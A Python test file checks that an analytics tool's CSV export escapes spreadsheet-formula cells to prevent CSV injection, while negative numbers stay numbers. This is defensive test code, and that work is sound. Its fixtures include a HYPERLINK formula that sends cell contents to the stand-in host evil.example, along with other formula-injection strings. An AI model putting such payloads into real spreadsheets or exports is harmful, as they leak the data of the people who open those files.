"""`setia analyze --out`: no cell of the scores file runs as a spreadsheet formula
(CSV injection), while numbers stay numbers. Runs without Django."""

import csv
import io

import numpy as np
import pytest

from setia.analytics.cli import run_analyze
from setia.analytics.scores_csv import format_int, format_text, write_csv_columns

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
RISKY_IDS = [EVIL, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "-17"]
# The purchases reader trims blanks around ids, so TAB / CR ones are unit-tested.
CLI_IDS = [v for v in RISKY_IDS if not v[0].isspace()]


def _cells(m, n):
    return [bytes(r).replace(b"\0", b"").decode() for r in m]


def _purchases(path, ids, n_plain=120, seed=0):
    """Purchases of `ids` and of `n_plain` ordinary customers (P0000...)."""
    rng = np.random.default_rng(seed)
    base = np.datetime64("2024-01-01")
    rows = []
    for c, name in enumerate(list(ids) + [f"P{i:04d}" for i in range(n_plain)]):
        for t in sorted({int(x) for x in rng.integers(0, 500, 1 + c % 5)}):
            rows.append([name, f"{(base + t).astype(object):%d/%m/%Y}", t * 100 + 5000])
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, delimiter=";")
        writer.writerow(["pelanggan", "tanggal", "jumlah"])
        writer.writerows(rows)
    return path


def _analyze(args):
    err = io.StringIO()
    assert run_analyze(args, io.StringIO(), err) == 0, err.getvalue()


def _rows(path):
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("ascii_only", [True, False])
def test_format_text_prefixes_formula_starts(ascii_only):
    extra = [] if ascii_only else ["Bu Sri Rahayu é"]
    values = np.array([*RISKY_IDS, "P0001", "+6281234567890", "Bu Ani", *extra])
    cells = _cells(*format_text(values))
    assert cells[: len(RISKY_IDS)] == [
        "'" + v
        if "," not in v and "\r" not in v
        else "\"'" + v.replace('"', '""') + '"'
        for v in RISKY_IDS
    ]
    # A phone number ("+" then digits only) and plain names are left alone.
    assert cells[len(RISKY_IDS) :] == ["P0001", "+6281234567890", "Bu Ani", *extra]


def test_numbers_are_never_prefixed():
    # Integer ids (and every numeric column) are numbers, not text: -5 stays -5.
    assert _cells(*format_text(np.array([-5, 7]))) == ["-5", "7"]
    assert _cells(*format_int(np.array([-120_000, 3]))) == ["-120000", "3"]


def test_guarded_cells_read_back_as_the_prefixed_text(tmp_path):
    path = tmp_path / "t.csv"
    write_csv_columns(
        path,
        ["id", "n"],
        [format_text(np.array(RISKY_IDS)), format_int(np.arange(-3, 4))],
    )
    rows = _rows(path)
    assert [r["id"] for r in rows] == ["'" + v for v in RISKY_IDS]
    assert [r["n"] for r in rows] == [str(i) for i in range(-3, 4)]


def test_analyze_out_escapes_formula_ids_and_keeps_numbers(tmp_path):
    src = _purchases(tmp_path / "p.csv", CLI_IDS)
    out = tmp_path / "scores.csv"
    _analyze([str(src), "--out", str(out)])
    rows = _rows(out)
    ids = [r["customer"] for r in rows]
    assert sorted(ids) == sorted(
        ["'" + v for v in CLI_IDS] + [f"P{i:04d}" for i in range(120)]
    )
    for row in rows:
        for column, cell in row.items():
            if column == "customer" or not cell:
                continue
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "'")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # a negative number, still a number


def test_scores_file_can_be_analyzed_again(tmp_path):
    # The scores file has a customer, a date and an amount column: reading it
    # back keeps the guarded ids, and a second pass does not prefix them twice.
    src = _purchases(tmp_path / "p.csv", CLI_IDS)
    first, second = tmp_path / "s1.csv", tmp_path / "s2.csv"
    _analyze([str(src), "--out", str(first)])
    _analyze(
        [str(first), "--out", str(second), "--date", "last_date"]
        + ["--amount", "total_spend", "--no-decimal-comma"]
    )
    again = {r["customer"] for r in _rows(second)}
    assert again == {r["customer"] for r in _rows(first)}
    assert "'" + EVIL in again
